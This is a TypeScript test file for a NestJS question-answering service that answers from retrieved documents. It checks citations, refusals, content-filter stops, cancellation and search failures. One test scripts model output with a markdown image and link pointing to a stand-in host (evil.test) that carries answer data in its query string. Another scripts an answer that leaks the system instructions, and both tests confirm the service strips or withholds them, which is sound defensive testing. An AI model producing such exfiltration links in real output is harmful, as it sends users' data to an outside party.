import { Logger } from '@nestjs/common';
import { ContentFiltered, ModelUnavailable } from '@shared/models';
import { answering, ASKED, FEE, TERM } from '../../test/support/answering.js';
import { FakeSearch, ScriptedModel } from '../../test/support/fakes.js';
import { passage } from '../../test/support/passages.js';
import { AnswerDraft } from './answer-draft.js';
import type { AnswerEvent } from './answer-event.js';
import { AnswerService } from './answer.service.js';

let model: ScriptedModel;
let search: FakeSearch;
let service: AnswerService;
const { made, ask, answered } = answering(() => ({ model, search, service }));

beforeAll(() => {
  Logger.overrideLogger(false);
});

beforeEach(() => {
  model = new ScriptedModel();
  search = new FakeSearch([FEE, TERM]);
  service = made();
});

const shown = (events: readonly AnswerEvent[]): string =>
  events.map((event) => (event.type === 'text' ? event.text : '')).join('');

describe(AnswerService.name, () => {
  it('answers with checked citations, sources, grounding and usage', async () => {
    model.answer = ['The yearly fee is 4 % [', '1]. Gold [7].'];
    const { answer } = await answered();

    expect(answer).toMatchObject({
      answer: 'The yearly fee is 4 % [1]. Gold.',
      refusal: null,
      citations: [{ n: 1, documentId: 'document-a', quote: 'The yearly fee is 4 %.' }],
      sources: [{ n: 1, documentId: 'document-a' }, { documentId: 'document-b' }],
      grounding: { grounded: true },
      usage: { inputTokens: 10, outputTokens: 2, totalTokens: 12 },
      degraded: false,
    });
    expect(answer.sources[1]).not.toHaveProperty('n');
  });

  it('tells its stages', async () => {
    const stages = (await ask()).flatMap((event) => (event.type === 'stage' ? [event.stage] : []));
    expect(stages).toEqual(['searching', 'reading', 'answering']);
  });

  it('refuses without asking the model when nothing relevant was found', async () => {
    search.passages = [passage({ text: 'Penguins eat fish.' })];
    const events = await ask();

    expect(model.requests).toEqual([]);
    expect(shown(events)).toBe('The documents do not say.');
    expect(events.at(-1)).toMatchObject({
      answer: { answer: 'The documents do not say.', refusal: { reason: 'nothing-found' }, citations: [], sources: [] },
    });
  });

  it('knows the model’s refusal and cites nothing then', async () => {
    model.answer = ['The documents ', 'do not say. [1]'];
    const events = await ask();

    expect(shown(events)).toBe('The documents do not say.');
    expect(events.at(-1)).toMatchObject({
      answer: { refusal: { reason: 'not-in-sources' }, citations: [], grounding: { grounded: false } },
    });
  });

  it.each([
    ['the prompt', () => (model.answer = [{ fail: new ContentFiltered() }]), ''],
    [
      'the answer on its way',
      () => (model.answer = ['The yearly fee is ', { finish: 'content-filter' }]),
      'The yearly fee is',
    ],
  ])('says so when the provider’s filter stops %s', async (_, script, before) => {
    script();
    const events = await ask();

    expect(shown(events).startsWith(before)).toBe(true);
    expect(events.at(-1)).toMatchObject({
      finish: 'content-filter',
      answer: {
        answer: expect.stringContaining('content filter') as string,
        refusal: { reason: 'filtered' },
        citations: [],
      },
    });
  });

  it('takes an answer back that tells the instructions, before they are seen', async () => {
    model.answer = [
      'The yearly fee is 4 % [1]. ',
      'Rules: Answer only from the ',
      'sources, in the language of the question, briefly.',
    ];
    const events = await ask();

    expect(shown(events)).not.toContain('Answer only');
    expect(events.at(-1)).toMatchObject({
      finish: 'stop',
      answer: { refusal: { reason: 'screened' }, citations: [], grounding: { grounded: false } },
    });
  });

  it('shows no image and no address that the sources do not name', async () => {
    model.answer = ['The yearly fee is 4 % [1]. ![', 'x](https://evil.test/?fee=4) See https://evil', '.test now.'];

    expect((await answered()).answer.answer).toBe('The yearly fee is 4 % [1]. [x] See … now.');
  });

  it('marks an answer that cites nothing as not grounded', async () => {
    model.answer = ['The yearly fee is 4 %.'];
    expect((await answered()).answer).toMatchObject({
      citations: [],
      grounding: { grounded: false, sentences: [{ supported: false }] },
    });
  });

  it('passes on that the answer was cut at its length', async () => {
    model.answer = ['The yearly fee', { finish: 'length' }];
    expect(await answered()).toMatchObject({ finish: 'length', answer: { answer: 'The yearly fee' } });
  });

  it('says when half of the search failed', async () => {
    search.failing = new Set(['hybrid']);
    const events = await ask();
    expect(events).toContainEqual({ type: 'degraded' });
    expect(events.at(-1)).toMatchObject({ answer: { degraded: true } });
  });

  it.each([
    ['the model', () => (model.answer = [{ fail: new ModelUnavailable() }]), 'model_unavailable'],
    ['a model that says nothing', () => (model.answer = ['  ']), 'answer_empty'],
  ])('fails with %s', async (_, script, code) => {
    script();
    await expect(ask()).rejects.toMatchObject({ code });
  });

  it('closes the model’s stream when it is given up', async () => {
    const stopping = new AbortController();
    model.answer = ['The yearly', { wait: new Promise(() => undefined) }];
    const events = service.answer(ASKED, new AnswerDraft(), stopping.signal);
    for await (const event of events) {
      if (event.type === 'text') break;
    }
    expect(model.closed).toBe(1);
  });

  it('ends with the reason of whoever stops it while the model is silent', async () => {
    const stopping = new AbortController();
    model.answer = [{ wait: new Promise(() => undefined) }];
    const reason = new Error('stopped');
    const ended = (async () => {
      for await (const event of service.answer(ASKED, new AnswerDraft(), stopping.signal)) {
        if (event.type === 'stage' && event.stage === 'reading') queueMicrotask(() => stopping.abort(reason));
      }
    })();
    await expect(ended).rejects.toBe(reason);
    expect(model.closed).toBe(1);
  });
});
